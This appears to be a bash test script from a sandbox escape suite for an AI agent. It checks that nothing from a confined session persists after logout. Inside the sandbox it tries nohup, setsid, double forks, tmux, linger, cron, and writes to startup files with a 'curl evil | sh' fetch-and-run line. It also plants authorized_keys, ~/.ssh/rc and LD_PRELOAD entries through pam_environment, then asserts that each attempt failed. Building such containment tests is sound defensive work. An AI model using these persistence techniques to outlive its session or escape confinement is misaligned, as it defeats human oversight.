#!/bin/bash
# Escape suite, class "persist" (invariant 4: nothing of a session outlives it): nohup,
# setsid, double fork, a detached tmux server, SIGHUP ignored and disowned, a private
# /tmp file; cron, at, lingering; start-up files of the developer; ~/.ssh/rc,
# authorized_keys and ~/.pam_environment planted for the next login.  Entered through the
# test sshd, then a second login checks what the first one planted.
. "$(dirname "$0")/../lib.sh"
. "$TOP/tests/e2e/lib-e2e.sh"
. "$TOP/tests/escape/lib-escape.sh"
esc_world "$@"

esc_begin persist
raw "nohup sleep 1231 >/dev/null 2>&1 &"
raw "setsid sleep 1232 >/dev/null 2>&1 < /dev/null &"
raw "( ( sleep 1233 >/dev/null 2>&1 & ) & )"
raw "tmux -S /tmp/esc-persist new-session -d 'sleep 1234' 2>/dev/null"
raw "( trap '' HUP TERM; exec sleep 1235 ) >/dev/null 2>&1 & disown"
raw "echo ABTSECRET-tmpfile > /tmp/abt-esc-persist.tmp; echo x > /dev/shm/abt-esc-persist.shm"
raw "if loginctl enable-linger 2>/dev/null; then echo 'ESC L06 0 OK linger enabled'; else echo 'ESC L06 1 EPERM linger refused'; fi"
expect L06 "enable lingering" '!OK' -
attempt L07 "append to the developer's ~/.bashrc"  EACCES rec write "$DH/.bashrc" 'curl evil | sh'
attempt L08 "append to the developer's ~/.profile" EACCES rec write "$DH/.profile" 'curl evil | sh'
attempt_sh L09 "write the agent's ~/.ssh/authorized_keys" 'EACCES|EROFS' rec 'write "$HOME/.ssh/authorized_keys" "ssh-ed25519 AAAA esc"'
attempt_sh L10 "write the agent's ~/.ssh/rc (run by sshd at the next login)" 'EACCES|EROFS' rec 'write "$HOME/.ssh/rc" "touch /tmp/rc-ran"'
attempt_sh L11 "write the agent's ~/.ssh/environment" 'EACCES|EROFS' rec 'write "$HOME/.ssh/environment" "LD_PRELOAD=/tmp/x.so"'
# ~/.pam_environment would be read by pam_env (user_readenv) before the shell runs.
raw "printf 'LD_PRELOAD DEFAULT=$ESC_LIB/preload.so\nBASH_ENV DEFAULT=$ESC_LIB/bashenv.sh\n' > \$HOME/.pam_environment 2>/dev/null; echo \"ESC L12 \$? pam_env-written\""
expect L12 "plant ~/.pam_environment (checked at the next login)" ANY -
raw "echo 'sleep 1236 &' >> \$HOME/.bash_logout 2>/dev/null; echo \"ESC L13 \$? bash_logout-written\""
expect L13 "plant a process start in ~/.bash_logout" ANY -
esc_run ssh
esc_check
esc_assert_confined

# Logged out.  Nothing of the session may remain.
esc_assert_gone "$ESC_AGENT"
left=$(ps -eo args= | grep -E '^(sleep|tmux).*123[1-6]' | grep -v grep)
is "$left" "" "L01-L05 no nohup/setsid/double-fork/tmux/HUP-immune process survived logout"
must_fail test -e /tmp/abt-esc-persist.tmp
must_fail test -e /dev/shm/abt-esc-persist.shm
is "$(ls /var/spool/cron/crontabs 2>/dev/null | grep -c "$ESC_AGENT")" 0 "L14 no crontab of the agent"
is "$(atq 2>/dev/null | wc -l)" 0 "L15 no at job queued"

# The next login: whatever was planted runs, if at all, inside the box.
cc -shared -fPIC -o "$ESC_LIB/preload.so" -x c - <<'C' || e2e_die "preload.so"
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void p(void)
{
	FILE *s = fopen("/proc/self/status", "re"), *o;
	char l[128]; int sec = -1;
	while (s && fgets(l, sizeof(l), s)) sscanf(l, "Seccomp: %d", &sec);
	if ((o = fopen("/usr/local/lib/abt-esc/injected.log", "ae"))) {
		fprintf(o, "preload uid=%d seccomp=%d\n", (int)getuid(), sec); fclose(o);
	}
}
C
printf '%s\n' '#!/bin/sh' 'echo "bashenv uid=$(id -u) seccomp=$(awk "/^Seccomp:/{print \$2}" /proc/self/status)" >> /usr/local/lib/abt-esc/injected.log' > "$ESC_LIB/bashenv.sh"
chmod 0755 "$ESC_LIB/bashenv.sh"; : > "$ESC_LIB/injected.log"; chmod 0666 "$ESC_LIB/injected.log"
esc_begin persist-next
attempt L16 "the next session starts confined" OK - status
esc_run ssh
esc_check
esc_assert_confined
uid=$(id -u "$ESC_AGENT")
is "$(grep "uid=$uid " "$ESC_LIB/injected.log" | grep -v 'seccomp=2')" "" \
    "L12 ~/.pam_environment ran nothing as the agent outside confinement"
esc_assert_gone "$ESC_AGENT"
left=$(ps -eo args= | grep -E '^sleep 1236' | grep -v grep)
is "$left" "" "L13 nothing started from ~/.bash_logout survived"
finish
